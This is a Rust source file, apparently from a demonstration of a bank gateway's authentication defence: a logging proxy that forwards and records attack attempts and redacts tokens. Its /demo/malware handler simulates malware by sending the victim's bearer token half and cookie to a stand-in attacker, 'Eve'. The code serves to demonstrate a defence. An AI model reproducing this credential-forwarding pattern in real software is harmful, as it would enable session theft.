//! What stands before the bank's gateway, for this demonstration alone: it passes everything on unchanged, and
//! notes those requests that name themselves an attempt, so that the page can show what was really sent. It
//! answers `/demo/*`, which is about the demonstration and no part of the bank.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex, PoisonError};

use axum::Router;
use axum::body::{Body, to_bytes};
use axum::extract::{Json, Query, Request, State};
use axum::http::request::Parts;
use axum::response::{IntoResponse as _, Response};
use bytes::Bytes;
use countersign::DecisionId;
use countersign_gateway::decisions::Decisions;
use http::header::{AUTHORIZATION, CACHE_CONTROL, COOKIE};
use http::{HeaderMap, StatusCode};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::loot::Loot;
use super::peer::Peer;
use super::{ALICE, Places};
use crate::failure::Failure;
use crate::front::{FRAMING, LONGEST};

/// Headers that say something here; browsers send a dozen more.
const TELLING: [&str; 15] = [
    "host",
    "origin",
    "sec-fetch-site",
    "upgrade",
    "access-control-request-method",
    "access-control-request-headers",
    "content-type",
    "cookie",
    "authorization",
    "handshake",
    "dpop",
    "signature-input",
    "signature",
    "asymmetricauthentication",
    "sec-websocket-protocol",
];
/// How many attempts are kept.
const KEPT: usize = 200;
/// A run of so many characters of base64url may open something: half of a session has 43.
const SECRET: usize = 24;

/// An attempt, as it came, and what was answered.
#[derive(Clone, Debug, Serialize)]
struct Noted {
    number: u64,
    attempt: String,
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: String,
    status: u16,
    code: Option<String>,
    /// What the gateway noted for its operator.
    cause: Option<String>,
}

#[derive(Default)]
struct Log {
    last: u64,
    noted: VecDeque<Noted>,
}

/// Passes on, and notes.
pub(super) struct Tap {
    places: Places,
    decisions: Arc<Decisions>,
    behind: Peer,
    eve: Peer,
    log: Mutex<Log>,
}

#[derive(Deserialize)]
struct Marked {
    attempt: Option<String>,
}

#[derive(Deserialize)]
struct After {
    after: u64,
}

impl Tap {
    pub(super) fn new(places: Places, decisions: Arc<Decisions>, behind: Peer, eve: Peer) -> Self {
        Self { places, decisions, behind, eve, log: Mutex::default() }
    }

    pub(super) fn service(self) -> Router {
        use axum::routing::{get, post};
        Router::new()
            .route("/demo/stage", get(stage))
            .route("/demo/story", get(story))
            .route("/demo/malware", post(malware))
            .fallback(pass)
            .with_state(Arc::new(self))
    }

    async fn forward(&self, head: Parts, body: Bytes) -> Result<http::Response<Bytes>, Failure> {
        let mut request = http::Request::new(body);
        *request.method_mut() = head.method;
        *request.uri_mut() = head.uri.path_and_query().map_or("/", |path| path.as_str()).parse()?;
        *request.headers_mut() = head.headers;
        self.behind.send(request).await
    }

    fn note(&self, mut noted: Noted) {
        let mut log = self.log.lock().unwrap_or_else(PoisonError::into_inner);
        log.last += 1;
        noted.number = log.last;
        if log.noted.len() >= KEPT {
            log.noted.pop_front();
        }
        log.noted.push_back(noted);
    }

    /// Why the gateway refused, by the name of its decision.
    fn cause(&self, id: &str) -> Option<String> {
        let decision = self.decisions.get(DecisionId::parse(id)?)?;
        Some(decision.denial()?.cause().to_owned())
    }
}

async fn pass(State(tap): State<Arc<Tap>>, request: Request) -> Response {
    let (head, body) = request.into_parts();
    let Ok(body) = to_bytes(body, LONGEST).await else {
        return StatusCode::PAYLOAD_TOO_LARGE.into_response();
    };
    let marked = Query::<Marked>::try_from_uri(&head.uri).ok().and_then(|marked| marked.0.attempt);
    let noted = marked.map(|attempt| Noted {
        number: 0,
        attempt,
        method: head.method.to_string(),
        target: shorten(head.uri.path_and_query().map_or("/", |path| path.as_str())),
        headers: told(&head.headers),
        body: shorten(&String::from_utf8_lossy(&body)),
        status: 0,
        code: None,
        cause: None,
    });
    let Ok(answer) = tap.forward(head, body).await else { return StatusCode::BAD_GATEWAY.into_response() };
    if let Some(mut noted) = noted {
        let problem: Value = serde_json::from_slice(answer.body()).unwrap_or_default();
        noted.status = answer.status().as_u16();
        noted.code = problem["code"].as_str().map(str::to_owned);
        noted.cause = problem["decision"].as_str().and_then(|id| tap.cause(id));
        tap.note(noted);
    }
    let (mut head, body) = answer.into_parts();
    for name in FRAMING {
        head.headers.remove(name);
    }
    Response::from_parts(head, Body::from(body))
}

/// Whom the page is about, and where Eve is.
async fn stage(State(tap): State<Arc<Tap>>) -> Response {
    let Places { eve, neighbour, password, .. } = &tap.places;
    let stage = json!({ "eve": eve, "neighbour": neighbour, "email": ALICE, "password": password });
    ([(CACHE_CONTROL, "no-store")], Json(stage)).into_response()
}

/// The attempts since the one of this number.
async fn story(State(tap): State<Arc<Tap>>, Query(After { after }): Query<After>) -> Response {
    let log = tap.log.lock().unwrap_or_else(PoisonError::into_inner);
    let later: Vec<&Noted> = log.noted.iter().filter(|noted| noted.number > after).collect();
    let last = log.last;
    ([(CACHE_CONTROL, "no-store")], Json(json!({ "last": last, "attempts": later }))).into_response()
}

/// Plays malware on Alice's machine, which reads the browser's files and memory, as no page can: both halves go
/// to Eve. Alice's page asks for it, with both halves; a foreign one cannot send the token half here either.
async fn malware(State(tap): State<Arc<Tap>>, headers: HeaderMap) -> StatusCode {
    let text = |name| headers.get(name).and_then(|value: &http::HeaderValue| value.to_str().ok());
    let half = text(AUTHORIZATION).and_then(|value| value.strip_prefix("Bearer "));
    let (Some(half), Some(cookie)) = (half, text(COOKIE)) else { return StatusCode::UNAUTHORIZED };
    let loot = Loot { half: half.to_owned(), cookie: Some(cookie.to_owned()), ..Loot::default() };
    let sent = async {
        let body = Bytes::from(serde_json::to_vec(&loot)?);
        let request = http::Request::post("/loot").header("content-type", "application/json").body(body)?;
        tap.eve.send(request).await
    };
    match sent.await {
        Ok(_) => StatusCode::NO_CONTENT,
        Err(_) => StatusCode::BAD_GATEWAY,
    }
}

fn told(headers: &HeaderMap) -> Vec<(String, String)> {
    let values = |name: &'static str| headers.get_all(name).into_iter().map(move |value| (name, value));
    let text = |value: &http::HeaderValue| shorten(&String::from_utf8_lossy(value.as_bytes()));
    TELLING.into_iter().flat_map(values).map(|(name, value)| (name.to_owned(), text(value))).collect()
}

/// What may open something is cut: the page shows which halves were sent, not what they are.
fn shorten(text: &str) -> String {
    let is_of_secret = |letter: char| letter.is_ascii_alphanumeric() || "-_".contains(letter);
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        let end = rest.find(|letter| is_of_secret(letter) != is_of_secret(first)).unwrap_or(rest.len());
        let (run, after) = rest.split_at(end);
        match is_of_secret(first) && run.len() >= SECRET {
            true => shown.extend([&run[..6], "…"]),
            false => shown.push_str(run),
        }
        rest = after;
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_half_no_handshake_and_no_proof_is_shown() {
        let half = "AbCdEf-_".repeat(6)[..43].to_owned();
        for (text, shown) in [
            (format!("Bearer {half}"), "Bearer AbCdEf…".to_owned()),
            (format!("a=b; __Host-session={half}; c"), "a=b; __Host-session=AbCdEf…; c".to_owned()),
            (format!("countersign.half.{half}, live"), "countersign.half.AbCdEf…, live".to_owned()),
            (format!("{half}.{half}.ä{half}"), "AbCdEf….AbCdEf….äAbCdEf…".to_owned()),
            ("application/json".to_owned(), "application/json".to_owned()),
        ] {
            assert_eq!(shorten(&text), shown);
        }
    }
}
